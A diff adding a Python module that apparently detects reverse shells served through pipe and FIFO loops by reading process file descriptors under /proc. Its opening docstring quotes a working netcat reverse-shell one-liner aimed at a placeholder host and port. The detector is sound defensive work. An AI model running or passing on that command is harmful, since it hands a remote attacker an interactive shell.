@@ -1,0 +1,146 @@
+"""A shell served to the network through pipes: its standard streams in a loop of pipes and
+FIFOs that passes through a process holding a connection. `mkfifo f; cat f | sh -i 2>&1 | nc
+HOST PORT > f`: sh's output is nc's input, nc's output goes into f, cat reads f into sh's
+input. No process has a socket on its standard streams, no command line names a shell served
+to the network; only the pipes' ends, read from /proc/PID/fd and fdinfo, show the loop.
+
+Read only where it can matter: for a shell whose stdin and stdout (or stderr) are pipes or
+FIFOs, in a kernel's tree where a process other than the kernel holds a connection. A FIFO is
+told by a stat of its fd's link, never opened (an open would block, or be its writer).
+"""
+
+from __future__ import annotations
+
+import os
+import stat
+from collections.abc import Callable, Iterable
+from dataclasses import dataclass
+
+from .model import Process
+
+#: Programs that run the commands they read on their stdin (the signature's shells)
+SHELLS = frozenset({"sh", "bash", "rbash", "dash", "zsh", "ksh", "ksh93", "mksh", "ash", "posh",
+                    "yash", "fish", "csh", "tcsh", "busybox"})
+
+#: Processes a loop may pass through besides the shell: `cat f | sh | nc > f` needs two
+MAX_HOPS = 4
+#: Processes of one tree whose fds are read, at most, and fds read of each
+MAX_PROCESSES = 64
+MAX_FDS = 256
+
+_ACCESS_MODE = 0o3  # of fdinfo's flags: O_RDONLY 0, O_WRONLY 1, O_RDWR 2
+
+
+@dataclass(frozen=True)
+class Ends:
+    """The pipes and FIFOs a process has open, by identity ('pipe:[N]', 'fifo:DEV:INO')."""
+
+    reads: frozenset[str] = frozenset()
+    writes: frozenset[str] = frozenset()
+
+
+NO_ENDS = Ends()
+
+
+def is_shell(process: Process) -> bool:
+    """A shell by its file or its first word (`exec -a kworker bash`: its file)."""
+    argv0 = process.cmdline[0] if process.cmdline else ""
+    return any(os.path.basename(name).lstrip("-") in SHELLS for name in (process.exe, argv0))
+
+
+def pipe_end(pid: int, fd: int | str, link: str) -> str | None:
+    """The identity of a pipe or FIFO open on ``fd`` (its link ``link``), else None."""
+    if link.startswith("pipe:["):
+        return link
+    if not link.startswith("/"):
+        return None  # a socket, an anonymous inode, a tty...
+    try:
+        found = os.stat(f"/proc/{pid}/fd/{fd}")  # the open file's inode: nothing is opened
+    except OSError:
+        return None
+    return f"fifo:{found.st_dev}:{found.st_ino}" if stat.S_ISFIFO(found.st_mode) else None
+
+
+def may_be_piped(stdio: list[str] | tuple[str, ...]) -> bool:
+    """Whether the links of fds 0-2 may be pipes or FIFOs: stdin, and stdout or stderr
+    (a path may be a FIFO; /dev/null and a terminal are not)."""
+    return len(stdio) == 3 and _may_be_pipe(stdio[0]) \
+        and (_may_be_pipe(stdio[1]) or _may_be_pipe(stdio[2]))
+
+
+def _may_be_pipe(link: str) -> bool:
+    return link.startswith(("pipe:[", "/")) and not link.startswith(("/dev/null", "/dev/pts/"))
+
+
+def shell_streams(pid: int, stdio: tuple[str, ...]) -> tuple[frozenset, frozenset] | None:
+    """(what it reads on stdin, what it writes on stdout and stderr) of a process whose stdin
+    and stdout or stderr are pipes or FIFOs (``stdio``: the links of its fds 0-2), else None."""
+    if not may_be_piped(stdio):
+        return None
+    stdin = pipe_end(pid, 0, stdio[0])
+    if stdin is None:
+        return None
+    outputs = frozenset(end for fd in (1, 2) if stdio[fd]
+                        and (end := pipe_end(pid, fd, stdio[fd])) is not None)
+    return (frozenset({stdin}), outputs) if outputs else None
+
+
+def read_ends(pid: int) -> Ends:
+    """The pipes and FIFOs ``pid`` has open, each as read or written (fdinfo's flags)."""
+    reads, writes = set(), set()
+    try:
+        fds = os.listdir(f"/proc/{pid}/fd")[:MAX_FDS]
+    except OSError:
+        return NO_ENDS
+    for fd in fds:
+        try:
+            end = pipe_end(pid, fd, os.readlink(f"/proc/{pid}/fd/{fd}"))
+            mode = _access_mode(pid, fd) if end is not None else None
+        except OSError:
+            continue  # closed meanwhile
+        if mode is not None:
+            if mode != os.O_WRONLY:
+                reads.add(end)
+            if mode != os.O_RDONLY:
+                writes.add(end)
+    return Ends(frozenset(reads), frozenset(writes))
+
+
+def _access_mode(pid: int, fd: str) -> int | None:
+    with open(f"/proc/{pid}/fdinfo/{fd}", "rb") as info:
+        for line in info:
+            if line.startswith(b"flags:"):
+                return int(line.split()[1], 8) & _ACCESS_MODE
+    return None
+
+
+def connected(process: Process) -> bool:
+    """Whether it holds a connection (a socket with a far end: not a listening one)."""
+    return any(s.remote is not None and not s.listening for s in process.sockets)
+
+
+def relay_in_loop(shell: Process, streams: tuple[frozenset, frozenset],
+                  others: Iterable[Process], ends_of: Callable[[Process], Ends]) -> str:
+    """The name of a process holding a connection that the shell's output reaches and that
+    feeds its input back, through pipes and FIFOs of ``others`` (at most MAX_HOPS of them),
+    or '' if there is none. ``others``: the processes the loop may pass through (neither the
+    kernel nor the shell's ancestors: a program that drives a shell it started, an agent, is
+    no loop beside it)."""
+    stdin, outputs = streams
+    graph = [(p, ends_of(p)) for p in others if p.pid != shell.pid]
+    # breadth first over (a process, the relay passed on the way to it, if any): each
+    # visited once, so a tree of 64 costs 128 steps at most
+    frontier, seen = [(outputs, "")], set()
+    for _ in range(MAX_HOPS):
+        step = []
+        for written, relay in frontier:
+            for process, ends in graph:
+                through = relay or (process.name if connected(process) else "")
+                if (process.pid, through) in seen or not ends.reads & written:
+                    continue
+                if through and ends.writes & stdin:
+                    return through
+                seen.add((process.pid, through))
+                step.append((ends.writes, through))
+        frontier = step
+    return ""
